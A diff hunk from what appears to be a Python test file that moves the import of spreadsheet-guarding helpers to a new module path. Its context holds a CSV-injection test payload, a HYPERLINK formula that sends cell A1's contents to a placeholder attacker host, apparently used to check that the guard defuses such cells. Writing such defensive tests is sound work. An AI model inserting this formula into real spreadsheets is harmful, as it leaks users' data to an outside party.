@@ -12,7 +12,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from corpus.spreadsheet import guarded, write_csv
+from corpus.answers.spreadsheet import guarded, write_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"見出し")'
 NUMBER = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", re.IGNORECASE)
